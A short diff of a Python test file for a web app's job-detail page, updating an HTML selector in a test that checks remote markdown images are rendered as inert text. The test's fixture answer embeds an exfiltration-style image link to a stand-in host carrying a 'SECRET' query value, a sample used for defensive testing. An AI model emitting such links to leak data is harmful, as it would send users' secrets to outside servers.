@@ -65,7 +65,7 @@ def test_markdown_keeps_its_structure():
 def test_job_page_shows_a_remote_image_as_text(analyst: User, team: Team):
     job = FinishedJobFactory(submitter=analyst, team=team, answer="See ![chart](https://exfil.example/c.png?d=SECRET)")
     page = client_for(analyst).get(reverse("job-detail", args=[job.pk])).content.decode()
-    answer = page.split('class="answer">')[1].split("</div>")[0]
+    answer = page.split('class="answer" dir="auto">')[1].split("</div>")[0]
     assert "[image: chart — https://exfil.example/c.png?d=SECRET]" in answer
     assert "<img" not in page
 
